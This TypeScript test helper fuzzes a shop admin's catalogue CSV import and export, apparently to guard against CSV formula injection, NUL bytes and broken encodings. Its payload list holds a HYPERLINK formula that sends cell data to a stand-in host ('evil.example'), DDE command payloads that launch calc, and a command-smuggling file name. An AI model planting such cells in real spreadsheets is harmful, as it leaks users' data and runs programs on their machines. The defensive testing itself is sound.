import type { FastifyInstance } from 'fastify';
import Papa from 'papaparse';
import { Random } from '../../server/lib/random';
import type { Db } from '../../server/lib/db';
import { JOB_FAILED_MESSAGE } from '../../server/modules/admin/catalogExchange/import/jobs/runner';
import {
  EXCHANGE,
  JOBS,
  postWithFile,
  settled,
  type Job,
} from '../../server/modules/admin/catalogExchange/import/jobs/testUpload';
import type { Visitor } from '../../server/testing/shopVisitor';
import { writtenTables } from './shopperWithState';

/**
 * issue 22 point 4: catalogue CSV files as a staff member's spreadsheet could send them, with
 * cells a spreadsheet reads as formulas, NUL bytes (in cells, the header and the file name),
 * bytes that are no UTF-8 and over-long cells. Deterministic for a seed.
 */
export interface CsvFuzzCase {
  label: string;
  fileName: string;
  bytes: Buffer;
  /** What the staff member decides once the dry run is done. */
  decision: 'apply' | 'discard';
}

const FORMULAS = [
  '=HYPERLINK("http://evil.example/?d="&A1;"Подробнее")',
  "+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  '@SUM(1+1)',
  '=1+1',
  "'=1+1",
  '\t=1+1',
  '\r=1+1',
  ' =1+1',
  '-5',
  '-0,5',
];
const NULS = ['\0', 'Роза\0', '\0=1+1', '=\0', 'a\0b\0c'];
const OTHERS = ['', 'Роза «Утро»', 'x'.repeat(256), 'Я'.repeat(10_001), '12,5р', '1500'];
const HEADERS = ['NAME', 'XML_ID', 'PRICE_BASE', 'STOCK', 'PREVIEW_TEXT', 'SORT', 'ACTIVE'];
const ODD_HEADERS = ['NA\0ME', '=CODE', '@SUM(A1)', 'Пояснение'];
const FILE_NAMES = ['catalog.csv', 'ca\0talog.csv', '=cmd|calc.csv', '\0', 'каталог.csv'];

/** A cell as a spreadsheet writes it: quoted only when it holds ';', a quote or a line break. */
const cellText = (cell: string) => (/[;"\r\n]/.test(cell) ? `"${cell.replace(/"/g, '""')}"` : cell);

/** Where the cases' new products go, and the value of the shared required property they need. */
export interface CsvFuzzTarget {
  section: number;
  brand: string;
}

export function csvFuzzCases(seed: number, count: number, target: CsvFuzzTarget): CsvFuzzCase[] {
  const random = new Random(seed);
  const cells = [...FORMULAS, ...NULS, ...OTHERS];
  return Array.from({ length: count }, (_, n): CsvFuzzCase => {
    const header = [
      'CODE',
      'SECTION_ID',
      'PROPERTY_BREND',
      ...random.sample(HEADERS, random.int(1, 4)),
      ...(random.chance(0.3) ? [random.pick(ODD_HEADERS)] : []),
    ];
    const rows = Array.from({ length: random.int(1, 4) }, (_, i) =>
      header.map((column) => {
        if (column === 'CODE')
          return random.chance(0.15) ? random.pick(cells) : `csv-fuzz-${n % 7}-${i}`;
        if (column === 'SECTION_ID') return String(target.section);
        if (column === 'PROPERTY_BREND')
          return random.chance(0.8) ? target.brand : random.pick(cells);
        return random.pick(cells);
      }),
    );
    const text = [header, ...rows].map((row) => row.map(cellText).join(';')).join('\r\n') + '\r\n';
    const parts = [Buffer.from('\uFEFF' + text)];
    // A piece in windows-1251 ('Поле') inside the last row, as a file pasted together may have.
    const broken = random.chance(0.2);
    if (broken) parts.splice(1, 0, Buffer.from([0xcf, 0xee, 0xeb, 0xe5]));
    return {
      label: `case ${n}: ${header.join(',')} ×${rows.length}${broken ? ' + windows-1251 bytes' : ''}`,
      fileName: random.pick(FILE_NAMES),
      bytes: Buffer.concat(parts),
      decision: random.chance(0.8) ? 'apply' : 'discard',
    };
  });
}

interface CsvShop {
  app: FastifyInstance;
  db: Db;
}

/**
 * Runs the cases as `admin` and lists what went wrong: a 5xx; a 4xx that wrote; a dry run that
 * ended in a server error; an apply that did not write whole what its dry run counted, or wrote
 * when it had nothing to write; at the end, an export of what the cases wrote with a cell a
 * spreadsheet would run.
 */
export async function csvFuzzProblems(
  shop: CsvShop,
  admin: Visitor,
  cases: readonly CsvFuzzCase[],
  section: number,
): Promise<string[]> {
  const problems: string[] = [];
  for (const fuzz of cases) {
    const say = (what: string) =>
      problems.push(`${fuzz.label} (${JSON.stringify(fuzz.fileName)}) → ${what}`);
    const before = await writtenTables(shop.db);
    const upload = await postWithFile(
      shop.app,
      admin,
      { action: 'import' },
      fuzz.bytes,
      fuzz.fileName,
    );
    if (upload.statusCode >= 400) {
      if (upload.statusCode >= 500) say(`upload ${upload.statusCode} ${upload.body.slice(0, 200)}`);
      else if (!sameTables(before, await writtenTables(shop.db)))
        say(`upload ${upload.statusCode} but wrote`);
      continue;
    }
    const job = await settled(admin, upload.json<Job>().id);
    if (job.status === 'failed') {
      if (job.error === JOB_FAILED_MESSAGE) say('the dry run failed with a server error');
      continue;
    }
    if (job.status !== 'checked') {
      say(`the dry run ended ${job.status}`);
      continue;
    }
    if (job.rejected > 0) {
      const unchanged = await writtenTables(shop.db);
      const all = await admin.post(`${JOBS}/${job.id}/apply`, { mode: 'all' });
      if (all.statusCode !== 409) say(`apply all with rejections answered ${all.statusCode}`);
      if (!sameTables(unchanged, await writtenTables(shop.db)))
        say('apply all with rejections wrote');
    }
    if (fuzz.decision === 'apply' && job.toCreate + job.toUpdate === 0) {
      // issue 25 point 3: nothing to write is refused, and refused means nothing written
      const unchanged = await writtenTables(shop.db);
      const nothing = await admin.post(`${JOBS}/${job.id}/apply`, { mode: 'valid' });
      if (nothing.statusCode !== 409) say(`apply of no rows answered ${nothing.statusCode}`);
      if (!sameTables(unchanged, await writtenTables(shop.db))) say('apply of no rows wrote');
      continue;
    }
    const decided = await admin.post(
      fuzz.decision === 'apply' ? `${JOBS}/${job.id}/apply` : `${JOBS}/${job.id}/discard`,
      fuzz.decision === 'apply' ? { mode: 'valid' } : {},
    );
    if (decided.statusCode !== 200) {
      say(`${fuzz.decision} answered ${decided.statusCode} ${decided.body.slice(0, 200)}`);
      continue;
    }
    if (fuzz.decision === 'discard') continue;
    const done = await settled(admin, job.id);
    if (done.status !== 'done' || done.error !== null)
      say(`the write ended ${done.status}: ${done.error}`);
    else if (done.rowsApplied !== job.toCreate + job.toUpdate)
      say(`the write wrote ${done.rowsApplied} of ${job.toCreate + job.toUpdate} rows`);
  }
  problems.push(...(await formulaCellsExported(shop, admin, section)));
  return problems;
}

const sameTables = (a: Record<string, string>, b: Record<string, string>) =>
  Object.keys(a).every((table) => a[table] === b[table]);

/** What a spreadsheet would run as a formula (a leading apostrophe makes text); numbers are numbers. */
const FORMULA_LEAD = /^[ \u00a0]*[=+\-@\t\r\n\0]/;
const PLAIN_NUMBER = /^-?\d+(?:[.,]\d+)?$/;

async function formulaCellsExported(shop: CsvShop, admin: Visitor, section: number) {
  const exported = await admin.post(EXCHANGE, {
    action: 'export',
    SECTION_ID: [section],
    parameters: ['CODE', 'XML_ID', 'NAME', 'PREVIEW_TEXT', 'SORT'],
    catalog: ['STOCK'],
  });
  if (exported.statusCode !== 200) return [`export answered ${exported.statusCode}`];
  const rows = Papa.parse<string[]>(exported.rawPayload.subarray(3).toString('utf8'), {
    delimiter: ';',
    skipEmptyLines: true,
  }).data;
  const written = await shop.db.query<{ n: number }>(
    "SELECT count(*)::int AS n FROM products WHERE code LIKE 'csv-fuzz-%'",
  );
  return [
    ...(written[0]!.n === 0 ? ['no case wrote a product: the fuzz reached no write'] : []),
    ...rows
      .flat()
      .filter((cell) => FORMULA_LEAD.test(cell) && !PLAIN_NUMBER.test(cell))
      .map((cell) => `the export has a formula cell ${JSON.stringify(cell.slice(0, 60))}`),
  ];
}
